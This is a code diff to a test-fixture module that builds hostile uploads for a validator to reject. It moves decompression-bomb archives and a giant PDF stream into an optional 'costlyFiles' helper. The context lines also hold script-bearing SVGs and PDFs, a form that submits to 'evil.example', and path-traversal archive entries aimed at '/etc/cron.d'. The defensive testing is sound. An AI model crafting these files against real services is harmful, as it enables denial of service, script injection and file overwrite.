@@ -104,7 +104,6 @@ function activeDocuments(): Record<string, Buffer> {
       '/OpenAction 5 0 R',
       objectStream(`${SCRIPTED}${' x'.repeat(5000)}`, '/Type/ObjStm/Filter/FlateDecode', (bytes) => deflateSync(bytes).subarray(0, -6)),
     ),
-    'pdf with packed objects beyond 50 MB': pdfOf('', objectStream(' '.repeat(60 * 1024 * 1024))),
     'pdf with a script within a stream of plain text': pdfOf('', '3 0 obj<</Length 60>>stream\n9 0 obj<</S/JavaScript/JS(1)>>endobj\nendstream endobj'),
     'pdf with a script behind a stream in a remark': pdfOf('', `% stream\n9 0 obj${SCRIPTED}endobj`),
     'pdf that sends its form': pdfOf('/AcroForm<</Fields[<</A<</S/SubmitForm/F(http://evil.example)>>>>]>>'),
@@ -165,8 +164,25 @@ function activeDocuments(): Record<string, Buffer> {
   };
 }
 
+/** Small files that unfold to much: making them takes seconds. */
+function costlyFiles(): Record<string, Buffer> {
+  const megabyte = Buffer.alloc(1024 * 1024);
+  return {
+    'pdf with packed objects beyond 50 MB': pdfOf('', objectStream(' '.repeat(60 * 1024 * 1024))),
+    'a sheet that unfolds to 110 MB': office({
+      'xl/workbook.xml': strToU8('<workbook/>'),
+      ...Object.fromEntries(Array.from({ length: 110 }, (_, n) => [`xl/media/${n}`, megabyte])),
+    }),
+    'content types that unfold to 110 MB': Buffer.from(zipSync({ 'xl/workbook.xml': strToU8(''), '[Content_Types].xml': Buffer.alloc(110 * 1024 * 1024) })),
+    'a sheet of 3,000 entries': office({
+      'xl/workbook.xml': strToU8(''),
+      ...Object.fromEntries(Array.from({ length: 3000 }, (_, n) => [`xl/media/${n}`, new Uint8Array()])),
+    }),
+  };
+}
+
 /** What must be refused, whatever name and type it comes under. */
-export async function hostileFiles(): Promise<Record<string, Buffer>> {
+export async function hostileFiles({ costly = true } = {}): Promise<Record<string, Buffer>> {
   const texts: Record<string, string> = {
     'svg with a script': svg(SCRIPT),
     'svg with a handler': svg('', 'onload="alert(1)"'),
@@ -191,22 +207,13 @@ export async function hostileFiles(): Promise<Record<string, Buffer>> {
   };
   const png = await honestPng();
   const jpeg = await honestJpeg(400, 300);
-  const big = Buffer.alloc(1024 * 1024);
   return {
     ...Object.fromEntries(Object.entries(texts).map(([name, text]) => [name, Buffer.from(text)])),
     ...activeDocuments(),
     'an empty archive': Buffer.from(zipSync({})),
     'a plain archive': Buffer.from(zipSync({ 'a.txt': strToU8('a') })),
     'an archive in an archive': Buffer.from(zipSync({ 'xl.zip': zipSync({ 'xl/workbook.xml': strToU8('') }) })),
-    'a sheet that unfolds to 110 MB': office({
-      'xl/workbook.xml': strToU8('<workbook/>'),
-      ...Object.fromEntries(Array.from({ length: 110 }, (_, n) => [`xl/media/${n}`, big])),
-    }),
-    'content types that unfold to 110 MB': Buffer.from(zipSync({ 'xl/workbook.xml': strToU8(''), '[Content_Types].xml': Buffer.alloc(110 * 1024 * 1024) })),
-    'a sheet of 3,000 entries': office({
-      'xl/workbook.xml': strToU8(''),
-      ...Object.fromEntries(Array.from({ length: 3000 }, (_, n) => [`xl/media/${n}`, new Uint8Array()])),
-    }),
+    ...(costly ? costlyFiles() : {}),
     'a sheet that climbs out of its folder': office({ 'xl/workbook.xml': strToU8(''), '../../evil.sh': strToU8('#!') }),
     'a sheet with an absolute path': office({ 'xl/workbook.xml': strToU8(''), '/etc/cron.d/x': strToU8('#!') }),
     'a sheet with macros': office({ 'xl/workbook.xml': strToU8(''), 'xl/vbaProject.bin': strToU8('x') }),
